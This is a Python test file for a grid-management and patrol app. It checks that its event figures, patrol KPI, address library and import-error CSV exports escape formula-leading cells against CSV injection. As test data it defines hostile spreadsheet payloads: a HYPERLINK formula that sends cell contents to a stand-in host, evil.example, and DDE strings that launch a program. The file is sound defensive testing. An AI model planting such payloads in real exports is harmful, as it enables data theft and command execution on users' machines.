"""Security issue 20, item 7: no CSV export hands a spreadsheet a formula (CSV injection).

Grid names and display names an administrator or planner typed, and values
an importer sent, reach the event figures CSV, the patrol KPI CSV, the
address library export and the import error files. Every text cell starting
like a formula (= + - @ tab CR) comes out with a leading apostrophe; figures
stay numbers.
"""
from __future__ import annotations

import csv
import io
import json

import pytest
from sqlalchemy import text

from app import csvcells
from tests.figures import helpers as figures_data
from tests.patrols.helpers import DAY, WEST, make_worker, store, walk

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
DDE = "=cmd|' /C calc'!A0"
HOSTILE = [HYPERLINK, DDE, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_starting_like_a_formula_is_escaped(value):
    assert csvcells.cell(value) == "'" + value


@pytest.mark.parametrize("value", ["第1网格", "a=b", "1+1", "'quoted", "", 0, -3, -2.5, None])
def test_other_cells_and_numbers_are_left_alone(value):
    assert csvcells.cell(value) == value


def _rows(response) -> list[list[str]]:
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    assert response.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"), newline="")))


def _formula_cells(rows) -> list[str]:
    return [c for row in rows for c in row if c.startswith(csvcells.FORMULA_START)]


def _rename_grid(db, code: str, name: str) -> None:
    db.session.execute(text("UPDATE grid SET name = :n WHERE code = :c"), {"n": name, "c": code})
    db.session.commit()


# ------------------------------------------------------------------ event figures CSV


@pytest.fixture
def events(db, sample, monkeypatch):
    from app.events import deadlines

    monkeypatch.setattr(deadlines, "now", lambda: figures_data.NOW)
    built = figures_data.build(db)
    _rename_grid(db, figures_data.G1, HYPERLINK)
    _rename_grid(db, figures_data.S1, "-样例街道")
    db.session.execute(text("UPDATE app_user SET display_name = :n WHERE id = :id"),
                       {"n": DDE, "id": built["workers"]["W1"].id})
    db.session.commit()
    return built


@pytest.mark.parametrize("by", ["grid", "worker", "subdistrict"])
def test_event_figures_csv_escapes_names(client, events, by):
    rows = _rows(client.get(f"/api/v1/figures/events?{figures_data.PERIOD}&by={by}&format=csv"))
    assert _formula_cells(rows) == []
    names = [row[1] for row in rows[1:]]
    expected = {"grid": "'" + HYPERLINK, "worker": "'" + DDE, "subdistrict": "'-样例街道"}[by]
    assert expected in names
    # The figures themselves are still plain numbers.
    assert all(cell.isdigit() for cell in rows[-1][2:8])


# ------------------------------------------------------------------ patrol KPI CSV


@pytest.fixture
def patrolled(db, sample):
    worker = make_worker("kpi-worker", areas=[WEST])
    db.session.flush()
    worker.display_name = DDE
    db.session.commit()
    store(worker.id, walk(0, 40, from_m=(-200.0, 30.0)))
    _rename_grid(db, WEST, HYPERLINK)
    return worker


def test_patrol_kpi_csv_escapes_display_names_and_grid_names(client, patrolled):
    query = f"from={DAY}&to={DAY}"
    workers = _rows(client.get(f"/patrols/kpi.csv?{query}"))
    assert _formula_cells(workers) == []
    assert [row[2] for row in workers[1:]] == ["'" + DDE]
    assert float(workers[1][3]) > 0      # patrol hours: still a number
    grids = _rows(client.get(f"/patrols/kpi.csv?{query}&table=grids"))
    assert _formula_cells(grids) == []
    assert "'" + HYPERLINK in [row[1] for row in grids[1:]]


# ------------------------------------------------------------------ CLI files


def test_address_export_escapes_and_reads_back_as_the_same_address(cli, db, sample, tmp_path):
    source = tmp_path / "in.csv"
    source.write_text("地址,道路,门牌号,小区,经度,纬度\n=HYPERLINK(1)路12号,=HYPERLINK(1)路,12号,@百合园,113.615,34.7525\n",
                      encoding="utf-8")
    assert cli.invoke(args=["addresses", "import", str(source)]).exit_code == 0
    stored = db.session.execute(text("SELECT full_text FROM standard_address")).scalars().all()
    assert len(stored) == 1 and stored[0].startswith("=")
    out = tmp_path / "out.csv"
    result = cli.invoke(args=["addresses", "export", "-o", str(out)])
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"), newline="")))
    assert _formula_cells(rows) == []
    assert rows[1][rows[0].index("地址")] == "'" + stored[0]
    # Imported again, the export names the same address: no apostrophe stored, no second address.
    result = cli.invoke(args=["addresses", "import", str(out)])
    assert result.exit_code == 0 and "0 new, 1 updated" in result.output, result.output
    texts = db.session.execute(text("SELECT concat_ws('|', full_text, road, number, compound, building) "
                                    "FROM standard_address")).scalars().all()
    assert len(texts) == 1 and "'" not in texts[0]


def test_import_error_file_escapes_the_values_it_echoes(cli, db, sample, tmp_path):
    source = tmp_path / "reports.json"
    source.write_text(json.dumps([{"category": "=1+1", "description": "x", "lon": 113.615, "lat": 34.7525}]),
                      encoding="utf-8")
    errors = tmp_path / "errors.csv"
    result = cli.invoke(args=["reports", "import", str(source), "--errors", str(errors)])
    assert result.exit_code == 1, result.output
    rows = list(csv.reader(io.StringIO(errors.read_text(encoding="utf-8-sig"), newline="")))
    assert _formula_cells(rows) == []
    assert "'=1+1" in [row[3] for row in rows[1:]]


def test_every_csv_writer_is_the_escaping_one():
    # A new export written with the csv module directly would skip the escaping.
    from pathlib import Path

    app_dir = Path(csvcells.__file__).parent
    direct = [str(p.relative_to(app_dir.parent)) for p in sorted(app_dir.rglob("*.py")) if p.name != "csvcells.py"
              and any(w in p.read_text(encoding="utf-8") for w in ("csv.writer(", "csv.DictWriter("))]
    assert direct == []
